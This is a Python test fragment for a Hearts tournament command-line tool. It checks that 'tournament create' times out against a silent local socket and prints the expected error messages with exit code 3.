    # create's deadline was the one said (a fresh-clone CI run).
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen(8)
        target = f"127.0.0.1:{silent.getsockname()[1]}"
        created, checked = (subprocess.run([
            *heartsd, "tournament", "create", "--server", target, "--admin-token", ADMIN, "--timeout", "0.001",
            *again, *[a for b in ("alice", "bob", "carol", "dave") for a in ("--bot", b)]],
            capture_output=True, text=True, timeout=60)
            for again in (["--again"], []))  # --again: no check for a running twin first, the create alone
    for out in (created, checked):
        assert out.returncode == 3, out  # as any other command's deadline (heartsbot.exits)
        said = " ".join(out.stderr.split())
        assert "no answer within 0.001 s (--timeout)" in said and "heartsd tournament list" in said, out.stderr
    assert "drawing" in " ".join(created.stderr.split()), created.stderr
    # The check before a create (a command given twice) says which call it was, and the way past it.
    assert "the check for a running tournament" in " ".join(checked.stderr.split()), checked.stderr
    assert "--again" in checked.stderr, checked.stderr
